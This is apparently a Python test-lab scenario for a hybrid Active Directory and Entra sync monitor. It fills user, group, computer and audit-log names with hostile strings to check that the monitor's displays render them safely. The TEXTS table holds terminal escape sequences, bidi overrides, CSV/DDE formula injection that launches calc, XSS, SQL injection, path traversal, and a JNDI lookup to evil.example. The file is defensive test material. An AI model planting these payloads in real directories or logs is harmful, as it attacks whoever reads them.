"""The hostile story: somebody who may write into both directories writes what harms whoever looks at it.

Every text that a person has a say in is such a text: names of people, groups, units, computers and servers, addresses,
the words of event logs and of the cloud's audit log. Findings open about these objects, so that each text gets to every
place where people read.

Sources: ECMA-48 (escape sequences, 8-bit CSI); Unicode Standard Annex #9 (bidirectional overrides); OWASP, "CSV
Injection"; RFC 4514 (escapes of distinguished names); WTF-8 (surrogates alone, which UTF-16 can hold).
"""

from __future__ import annotations

import uuid
from collections.abc import Mapping
from typing import Any

from deploy.lab.directory.names import escape
from deploy.lab.entra.schema import Kind
from deploy.lab.events import ADSYNC
from deploy.lab.hybrid import HybridOrganisation
from deploy.lab.registration_events import join_failed
from deploy.lab.stories.administration import audited
from deploy.lab.stories.story import Expectation, Step, Story
from deploy.lab.sync.devices import join_certificate
from streams.contracts.identity import immutable_id_of_guid

TEXTS: Mapping[str, str] = {
    "title": "\x1b]0;PWNED\x07 title",
    "clear": "\x1b[2J\x1b[H\x1b[31m clear",
    "link": "\x1b]8;;http://evil.example\x1b\\link\x1b]8;;\x1b\\",
    "eight bit": "\x9b31m\x9d0;PWNED\x9c\x90q\x9c eight",
    "override": "\u202egpj.exe\u202c \u2066isolate\u2069 \u200fmark",
    "hidden": "in\u200bvis\u2060ible\ufeff\U000e0041\u00ad",
    "lines": "first\r\nOPEN forged.finding: all is well\n\u2028\u2029\x85\x0b\x0cend",
    "nul": "nul\x00behind",
    "backspace": "good\x08\x08\x08\x08evil\x7f",
    "markup": "[/][bold red]markup[/bold] [link=http://evil.example]x[/link] :boom: {{7*7}}",
    "html": "<script>alert(1)</script><img src=x onerror=alert(2)>&amp;",
    "labels": "\"} 1\nsynchealth_forged{a=\"b\\",
    "formula": "=HYPERLINK(\"http://evil.example\",\"x\")",
    "command": "=cmd|' /C calc'!A0",
    "full width": "\uff1d1+1 \uff11\uff12 \uff21\uff44\uff41",
    "plus": "+1+1",
    "minus": "-2+3",
    "at": "@SUM(1+1)",
    "tab": "\t=1+1",
    "look-alike": "\u0430d\u0430@c\u043ent\u043es\u043e.com",
    "tombstone": "x\\0ADEL:6a3c1f7e-0f5f-4d8e-9c55-1b0d3f7a2e44",
    "dn": "a\\,DC=evil+CN=x;\"#<>=",
    "quote": "';DROP TABLE users;--",
    "json": "\"},{\"id\":\"1\\u0000\"",
    "path": "../../etc/passwd%00%0d%0a$(id)`id`${jndi:ldap://evil.example/a}",
}  # fmt: skip
"""What for, and the text; each may stand wherever a directory keeps text."""
HALF = b"half \xed\xb3\xbf\xed\xa0\x80"
"""Surrogates alone, as LDAP sends what UTF-16 can hold and UTF-8 cannot."""
LONG = "L" * (1 << 20)

_ATTRIBUTES = ("displayName", "givenName", "sn", "title", "department", "company", "description", "mailNickname")
_NAME = 50  # characters: a common name has 64 at most
_UNIVERSAL = "8"


def build(lab: HybridOrganisation) -> Story:
    """The story over `lab`."""
    plot = _Plot(lab)
    return Story(
        name="hostile",
        summary="Names, events and audit rows that attack whoever reads them: shown, never acted on",
        steps=[
            Step(
                name="people", at_min=0, told="Units, people, groups and contacts get names that are no names",
                act=plot.move_in, opens=[plot.address("duplicate_address", plot.alias)],
            ),
            Step(
                name="cloud", at_min=1, told="So do cloud accounts; one has an address that AD claims",
                act=plot.cloud_people, opens=[plot.address("address_owned_by_cloud_object", plot.claimed)],
            ),
            Step(
                name="refused", at_min=2, told="Entra refuses some of them, and the engine logs their names",
                act=plot.refuse, opens=plot.refusals,
            ),
            Step(
                name="computer", at_min=3, told="A computer of such a name fails to join, and says so in such words",
                act=plot.fail_to_join, opens=[plot.join],
            ),
            Step(
                name="logs", at_min=4, told="Event logs and audit rows are full of them",
                act=plot.write_logs, opens=[plot.feature],
            ),
            Step(
                name="cleaned up", at_min=75, told="All of them are deleted",
                act=plot.clean_up, repairs=["people", "cloud", "refused", "computer"],
            ),
        ],
    )  # fmt: skip


class _Plot:
    """Who there is, and what the findings are about. Everything of AD waits outside of what is synchronised."""

    def __init__(self, lab: HybridOrganisation) -> None:
        self._lab, self._tenant, self._main = lab, lab.tenant, lab.forests[0]
        self._store, domain = self._main.store, self._main.layout.domain
        self.alias, self.claimed = f"everybody.wants.this@{domain}", f"cloud.has.this@{domain}"
        self._root = self._add(f"OU=Hostile,{self._main.layout.service_ou}", objectClass="organizationalUnit")
        self._people = [self._family(number, text) for number, text in enumerate(TEXTS.values())]
        self._store.modify(self._people[0], {"displayName": HALF})
        self._computer = self._add(
            f"CN={_escaped(TEXTS['labels'])},{self._main.layout.computers_ou}", objectClass="computer",
            sAMAccountName="HOSTILE$", dNSHostName=f"{TEXTS['labels']}.{domain}", userAccountControl="4096",
            operatingSystem=f"Windows 11 {TEXTS['markup']}", operatingSystemVersion="10.0 (22631)",
        )  # fmt: skip
        self._cloud: list[tuple[Kind, str]] = []

    def _family(self, number: int, text: str) -> uuid.UUID:
        """A unit, and in it a person, a group and a contact: of such names; the person's objectGUID."""
        domain, account = self._main.layout.domain, f"hostile{number:02}"
        home = self._store.get(
            self._add(f"OU={_escaped(text)},{self._store.get(self._root).dn}", objectClass="organizationalUnit")
        ).dn
        person = self._add(
            f"CN={_escaped(text)},{home}", objectClass="user", sAMAccountName=account, userAccountControl="512",
            userPrincipalName=f"{text}@{domain}", mail=f"{text}{number}@{domain}",
            proxyAddresses=[f"SMTP:{account}@{domain}", f"smtp:{self.alias}", f"smtp:{text}.{number}@{domain}"],
            **dict.fromkeys(_ATTRIBUTES, text[:64]),
        )  # fmt: skip
        self._add(
            f"CN={_escaped(text)} group,{home}", objectClass="group", sAMAccountName=f"{account}-group",
            displayName=text, description=text, groupType=_UNIVERSAL, member=[person],
            proxyAddresses=[f"smtp:{text}.{number}@groups"],
        )  # fmt: skip
        self._add(
            f"CN={_escaped(text)} contact,{home}", objectClass="contact", displayName=text, company=text[:64],
            mail=f"contact{number}@{text}",
        )  # fmt: skip
        return person

    def _add(self, dn: str, **attributes: Any) -> uuid.UUID:
        return self._store.add(dn, attributes)

    def address(self, detection: str, address: str) -> Expectation:
        return Expectation(f"conflict.{detection}", f"address/{self._tenant.tenant_id}/{address}")

    @property
    def refusals(self) -> list[Expectation]:
        anchors = [immutable_id_of_guid(str(person)) for person in self._people[::4]]
        return [Expectation("flow.export_error", f"user/{self._tenant.tenant_id}/{anchor}") for anchor in anchors]

    @property
    def join(self) -> Expectation:
        return Expectation("hybrid_join.join_failing", f"device/{self._tenant.tenant_id}/{self._computer}")

    @property
    def feature(self) -> Expectation:
        return Expectation("engine.sync_feature_changed", f"tenant/{self._tenant.tenant_id}", outlives=True)

    def move_in(self) -> None:
        """Into the synchronised unit: a renamed unit with everything below it."""
        self._store.move(self._root, self._main.layout.people_ou)

    def cloud_people(self) -> None:
        for number, text in enumerate(TEXTS.values()):
            address = self.claimed if not number else f"cloud{number}@{self._tenant.initial_domain}"
            named = {"userPrincipalName": address, "mail": address, "proxyAddresses": [f"SMTP:{address}"]}
            told = {"displayName": text, "givenName": text, "surname": text, "jobTitle": text, "department": text}
            user = self._tenant.upsert("user", None, {**named, **told, "accountEnabled": True, "userType": "Member"})
            self._tenant.grant_admin(user)
            group = self._tenant.upsert("group", None, {"displayName": text, "description": text})
            self._cloud += [("user", user), ("group", group)]
        self._tenant.upsert(*self._cloud[1], {"description": LONG})
        self._store.add_values(self._people[1], "proxyAddresses", f"smtp:{self.claimed}")

    def refuse(self) -> None:
        for person in self._people[::4]:
            self._lab.engine.refused.add(str(person))
            self._store.modify(person, {"title": "again"})

    def fail_to_join(self) -> None:
        self._store.modify(self._computer, {"userCertificate": [join_certificate(self._computer)]})
        self._lab.devices.cycle()
        server = self._store.get(self._computer).first("dNSHostName")
        self._lab.engine.log.forward(
            join_failed(
                code=0xCAA9002C, phase="auth", tenant_type="Federated", answer=TEXTS["html"] + TEXTS["lines"],
                server=server, record_id=1, at_ms=self._tenant.clock(),
            )
        )  # fmt: skip

    def write_logs(self) -> None:
        """Texts where programs put names, in events that are read and in some that nobody knows."""
        log, texts = self._lab.engine.log, list(TEXTS.values())
        for number, text in enumerate(texts):
            log.write(ADSYNC, 6941, f"ECMA2 MA export run caused an error.\r\nError Name: {text}\r\nDN: CN={{{text}}}")
            log.write(text, 40_000 + number, text, level="error", parameters=[text])
            audited(self._tenant, text, target={"id": text, "type": "User", "displayName": text}, by=text)
        log.write(ADSYNC, 6801, LONG, level="error")
        audited(self._tenant, "Update user", target={"type": "User", "displayName": LONG}, by=LONG)
        self._tenant.set_features(blockSoftMatchEnabled=True)
        directory = {"id": self._tenant.tenant_id, "type": "Directory"}
        for text in texts:
            audited(self._tenant, "Set DirSync feature", target={**directory, "displayName": text}, by=text)

    def clean_up(self) -> None:
        self._lab.engine.refused.clear()
        self._store.delete(self._root, subtree=True)
        self._store.delete(self._computer)
        self._lab.devices.cycle()
        for kind, object_id in self._cloud:
            if self._tenant.get(kind, object_id) is not None:
                self._tenant.hard_delete(kind, object_id)


def _escaped(text: str) -> str:
    return escape(f"CN={text[:_NAME]}").removeprefix("CN=")
